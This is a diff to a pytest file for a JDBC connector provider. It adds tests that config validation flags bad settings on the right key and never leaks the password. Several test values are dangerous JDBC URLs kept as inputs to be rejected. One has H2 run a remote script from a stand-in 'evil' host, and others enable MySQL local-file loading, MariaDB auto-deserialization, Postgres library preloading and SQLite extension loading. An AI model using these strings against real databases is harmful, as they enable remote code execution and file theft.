@@ -3,14 +3,17 @@
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator
 
 import pytest
 
 from airflow_provider_connect.connectors.jdbc.sink_connector import JdbcSinkConnector
 from airflow_provider_connect.connectors.jdbc.source_connector import JdbcSourceConnector
 from airflow_provider_connect.errors import ConfigException, ConnectException
+from airflow_provider_connect.isolation.probe import PluginProbe
 from airflow_provider_connect.sdk.connector import Connector
 from airflow_provider_connect.sdk.schema import INT64_SCHEMA, OPTIONAL_STRING_SCHEMA, Schema
+from airflow_provider_connect.settings import WorkerSettings
 from tests.integration.jdbc.sinks import UPSERT, Place, Sink
 from tests.integration.worker.test_jdbc_source import polled, started
 
@@ -53,6 +56,12 @@ DANGERS = {
     "postgresql://ann:topsecret@127.0.0.1/x?options=-csession_preload_libraries=x": "options can run code",
     "jdbc:sqlite:/tmp/x.db?enable_load_extension=true": "enable_load_extension can run code",
 }
+
+
+@pytest.fixture(scope="module")
+def probe() -> Iterator[PluginProbe]:
+    with PluginProbe(WorkerSettings.of({})) as probe:
+        yield probe
 
 
 @pytest.fixture(params=DATABASES)
@@ -165,3 +174,36 @@ def test_numbers_that_do_not_grow_are_refused_before_a_row_goes_on(orders: Place
     with pytest.raises(ConnectException, match=rf"Column id of table .*doubled \(incrementing.column.name\) .*: {number} is there twice"):
         task.poll()
     task.stop()
+
+
+@pytest.mark.parametrize(
+    ("plugin", "change", "key"),
+    [
+        ("JdbcSource", {"connection.url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"}, "connection.url"),
+        ("JdbcSource", {"connection.url": "jdbc:mysql://ann:topsecret@db/x?allowLoadLocalInfile=true"}, "connection.url"),
+        ("JdbcSource", {"connection.url": "postgresql://ann:topsecret@half@db/x"}, "connection.url"),
+        ("JdbcSource", {"incrementing.column.name": ""}, "incrementing.column.name"),
+        ("JdbcSource", {"mode": "timestamp"}, "timestamp.column.name"),
+        ("JdbcSource", {"mode": "newest"}, "mode"),
+        ("JdbcSource", {"query": "SELECT 1", "table.include": "orders"}, "query"),
+        ("JdbcSink", {"connection.url": "jdbc:mariadb://ann:topsecret@db/x?autoDeserialize=true"}, "connection.url"),
+        ("JdbcSink", {"insert.mode": "upsert"}, "pk.mode"),
+        ("JdbcSink", {"delete.enabled": "true"}, "delete.enabled"),
+        ("JdbcSink", {"table.name.pattern": "("}, "table.name.pattern"),
+    ],
+)
+def test_rest_hangs_what_is_wrong_on_its_key(probe: PluginProbe, plugin: str, change: dict[str, str], key: str) -> None:
+    """As ``PUT /connector-plugins/{plugin}/config/validate`` asks: in a process of its own, and without the database."""
+    config = {
+        "connector.class": plugin,
+        "name": "x",
+        "connection.url": "jdbc:postgresql://127.0.0.1:1/x",
+        "connection.password": "topsecret",
+    }
+    config |= (
+        {"mode": "incrementing", "incrementing.column.name": "id", "topic.prefix": "t-"} if plugin == "JdbcSource" else {"topics": "t"}
+    )
+    assert probe.validate(plugin, config).error_count == 0
+    errors = {value.name: value.errors for _, value in probe.validate(plugin, config | change).configs if value.errors}
+    assert list(errors) == [key]
+    assert all(f"for configuration {key}: " in error and "topsecret" not in error for error in errors[key])
